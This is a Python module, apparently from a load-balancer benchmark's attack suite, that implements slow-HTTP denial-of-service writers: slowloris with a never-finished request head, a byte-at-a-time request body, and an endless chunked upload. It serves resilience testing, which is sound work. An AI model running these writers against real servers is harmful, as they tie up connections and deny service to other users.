"""The slow writers: slowloris (a head never finished), slow bodies, an endless chunked upload.

Each sends a little at a time; the intervals are read at each connection, so a
caller (a test) may shorten them."""
from __future__ import annotations

import asyncio
import functools
import itertools
import socket
from typing import Awaitable, Iterator

from bench.attacks.connection import Writer, forever

SLOWLORIS_INTERVAL_S = 2.0
TRICKLE_INTERVAL_S = 1.0
SMALL_BODY = 5_000
LARGE_BODY = 5_000_000


def _bytes_of(data: bytes) -> Iterator[bytes]:
    return (data[i:i + 1] for i in range(len(data)))


def _endless_head() -> Iterator[bytes]:
    """A request head that never ends: one more header line after another."""
    yield from _bytes_of(b"GET /slowloris HTTP/1.1\r\nHost: lb\r\n")
    for i in itertools.count():
        yield from _bytes_of(f"X-Slow-{i}: {i}\r\n".encode())


@functools.lru_cache(maxsize=4)
def json_body(length: int) -> bytes:
    """A JSON document of exactly `length` bytes (at least 8); one copy per length."""
    return b'{"p":"' + b"x" * (length - 8) + b'"}'


def _json_bytes(length: int) -> Iterator[bytes]:
    """json_body(length), one byte at a time, without holding it whole."""
    yield from _bytes_of(b'{"p":"')
    for _ in range(length - 8):
        yield b"x"
    yield from _bytes_of(b'"}')


def _post_head(path: str, framing: str) -> bytes:
    return (f"POST {path} HTTP/1.1\r\nHost: lb\r\nContent-Type: application/json\r\n"
            f"{framing}\r\n\r\n").encode()


async def _trickle(loop: asyncio.AbstractEventLoop, sock: socket.socket, head: bytes,
                   pieces: Iterator[bytes], interval: float) -> None:
    if head:
        await loop.sock_sendall(sock, head)
    for piece in pieces:
        await loop.sock_sendall(sock, piece)
        await asyncio.sleep(interval)
    await forever()


def slowloris(loop: asyncio.AbstractEventLoop, sock: socket.socket) -> Awaitable[None]:
    """A request head, one byte every SLOWLORIS_INTERVAL_S, never finished."""
    return _trickle(loop, sock, b"", _endless_head(), SLOWLORIS_INTERVAL_S)


def slow_body(length: int) -> Writer:
    """A complete head with Content-Length `length`, then one body byte at a time."""
    def write(loop, sock) -> Awaitable[None]:
        return _trickle(loop, sock, _post_head("/slow-body", f"Content-Length: {length}"),
                        _json_bytes(length), TRICKLE_INTERVAL_S)
    return write


def endless_chunked(loop: asyncio.AbstractEventLoop, sock: socket.socket) -> Awaitable[None]:
    """A chunked upload: a small chunk every TRICKLE_INTERVAL_S, never the last one."""
    chunks = itertools.chain([b"1\r\n[\r\n"], itertools.repeat(b"2\r\n0,\r\n"))
    return _trickle(loop, sock, _post_head("/endless-chunked", "Transfer-Encoding: chunked"),
                    chunks, TRICKLE_INTERVAL_S)
